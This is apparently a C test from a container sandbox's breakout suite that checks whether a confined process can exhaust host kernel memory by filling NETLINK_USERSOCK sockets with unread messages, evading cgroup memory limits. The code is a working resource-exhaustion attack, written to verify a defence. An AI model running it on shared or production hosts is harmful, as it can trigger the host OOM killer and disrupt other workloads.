/**
 * @file
 * @brief netlinkhog: memory of the kernel that no cgroup counts.
 *
 * A netlink message that nobody has read yet waits in the kernel's memory, and
 * that memory is charged to no cgroup: with --memory 64M a container held 1 GB,
 * and the OOM killer looked for somebody to kill on the host. Some protocols
 * let ordinary users write to themselves (NETLINK_USERSOCK is made for it).
 * What a program needs to ask for addresses and routes is NETLINK_ROUTE, number
 * 0, and a filter can compare that number. A limit on descriptors limits the
 * rest.
 */
#include <linux/netlink.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tests/attacks/breakouts/breakout.h"

/* A socket takes a second message only where the kernel had no room in one
 * piece for the first, so there is one socket for each of 128 MiB's. */
enum {
    MOST = 900,
    MESSAGE = 150000
};

/* Sends a socket messages that it does not read, until no more fit. */
static long fill(int fd)
{
    static char message[MESSAGE];
    struct sockaddr_nl self = { .nl_family = AF_NETLINK };
    socklen_t length = sizeof(self);
    long bytes = 0;

    if (bind(fd, (struct sockaddr *)&self, length) < 0 ||
        getsockname(fd, (struct sockaddr *)&self, &length) < 0)
        return 0;
    while (sendto(fd, message, sizeof(message), MSG_DONTWAIT,
                  (struct sockaddr *)&self, length) > 0)
        bytes += MESSAGE;
    return bytes;
}

BREAKOUT(netlinkhog)
{
    const struct rlimit files = { MOST + 64, MOST + 64 };
    long bytes = 0, wanted = atol(words[0]) << 20;

    setrlimit(RLIMIT_NOFILE, &files);
    for (int i = 0; i < MOST && bytes < wanted; i++) {
        int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_USERSOCK);
        long more = fd < 0 ? 0 : fill(fd);

        if (more == 0)
            break;
        bytes += more;
    }
    printf("%ld MiB\n", bytes >> 20);
    return bytes < wanted ? stopped("NETLINK_USERSOCK") : linger();
}
